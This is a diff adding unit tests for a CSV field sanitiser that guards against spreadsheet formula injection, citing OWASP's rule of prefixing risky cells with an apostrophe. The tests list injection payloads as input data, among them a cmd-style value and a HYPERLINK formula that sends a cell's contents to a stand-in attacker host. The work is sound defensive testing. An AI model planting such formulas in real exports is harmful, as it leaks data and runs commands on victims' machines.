@@ -32,6 +32,25 @@ describe("csvField", () => {
   ])("%j → %s", (input, expected) => {
     expect(csvField(input)).toBe(expected);
   });
+
+  // L3: a failed sign-in's email such as -2+3+cmd@evil.example reached a cell as it was, and a
+  // spreadsheet ran it as a formula. OWASP's rule: prefix ' to a cell starting with = + - @ tab CR.
+  it.each<[string, string]>([
+    ["=1+1", "'=1+1"],
+    ["+1+1@a.co", "'+1+1@a.co"],
+    ["-2+3+cmd@evil.example", "'-2+3+cmd@evil.example"],
+    ["@SUM(A1)", "'@SUM(A1)"],
+    ["\t=1", "'\t=1"],
+    ["\r=1", `"'\r=1"`],
+    ['=HYPERLINK("https://evil/?"&A2,"open")', `"'=HYPERLINK(""https://evil/?""&A2,""open"")"`],
+    ["a=b", "a=b"],
+  ])("neutralises %j → %s", (input, expected) => {
+    expect(csvField(input)).toBe(expected);
+  });
+
+  it("leaves numbers alone", () => {
+    expect(csvField(-3)).toBe("-3");
+  });
 });
 
 describe("csvLine", () => {
